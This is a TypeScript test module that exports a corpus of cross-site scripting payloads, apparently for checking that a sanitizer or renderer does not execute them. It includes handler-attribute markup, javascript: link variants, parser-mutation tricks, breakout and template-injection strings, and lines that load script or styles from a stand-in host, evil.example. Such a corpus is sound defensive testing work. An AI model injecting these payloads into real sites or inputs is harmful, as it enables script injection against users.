/** Sets a mark on the page if it is ever run. */
const mark = 'window.__ran=1';

const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationend',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'details open',
  'video',
  'a',
];

/** Markup with a handler: every element with every event. */
const handlers = elements.flatMap(element =>
  events.map(event => `<${element} ${event}="${mark}">`),
);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
];
const links = schemes.flatMap(scheme => [
  `${scheme}${mark}`,
  `<a href="${scheme}${mark}">x</a>`,
  `https://example.com/${scheme}${mark}`,
  `[x](${scheme}${mark})`,
]);

const scripts = [
  `<script>${mark}</script>`,
  `<SCRIPT>${mark}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${mark}</script>`,
  `</title><script>${mark}</script>`,
  `</textarea><script>${mark}</script>`,
  `</style><script>${mark}</script>`,
  `--><script>${mark}</script>`,
  `<!--<script>${mark}</script>-->`,
  `<scr<script>ipt>${mark}</script>`,
  `<script\u0000>${mark}</script>`,
  `<script/x>${mark}</script>`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `&#60;script&#62;${mark}&#60;/script&#62;`,
  `\\u003cscript\\u003e${mark}\\u003c/script\\u003e`,
  `%3Cscript%3E${mark}%3C/script%3E`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${mark}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${mark}'/>#x">`,
  `<object data="data:text/html,<script>${mark}</script>">`,
  `<embed src="data:text/html,<script>${mark}</script>">`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<form action="javascript:${mark}"><button>x`,
  `<button formaction="javascript:${mark}">x`,
  `<meta http-equiv=refresh content="0;url=javascript:${mark}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<img src=//evil.example/x.png>`,
  `<video poster=//evil.example/x>`,
  `<template><script>${mark}</script></template>`,
  `<dialog open onclose=${mark}><form method=dialog><button>`,
  `<xss id=x tabindex=1 onfocus=${mark}>#x`,
];

const breakouts = [
  `" autofocus onfocus="${mark}`,
  `' autofocus onfocus='${mark}`,
  `"><img src=x onerror=${mark}>`,
  `'><img src=x onerror=${mark}>`,
  `\`><img src=x onerror=${mark}>`,
  `x" style="background:url(//evil.example)`,
  `";${mark};//`,
  `';${mark};//`,
  `\\";${mark};//`,
  `\${${mark}}`,
  `{{constructor.constructor('${mark}')()}}`,
  `#{${mark}}`,
  `<%= ${mark} %>`,
  `]]><img src=x onerror=${mark}>`,
  `{"__html":"<img src=x onerror=${mark}>"}`,
  `{"type":"script","props":{"children":"${mark}"}}`,
  `\u202e<img src=x onerror=${mark}>`,
  `<\u0000img src=x onerror=${mark}>`,
  `＜img src=x onerror=${mark}＞`,
  `<img/src=\`x\`onerror=${mark}>`,
  `<a href="https://example.com/" onclick=${mark}>x</a>`,
  `https://example.com/"onmouseover="${mark}`,
  `https://example.com/<img src=x onerror=${mark}>`,
  `tel:+1"onclick="${mark}`,
  `data:text/html,<script>${mark}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==`,
];

/** Texts that would run in a page that took them for anything but texts. */
export const scriptCorpus: readonly string[] = [...scripts, ...breakouts, ...links, ...handlers];
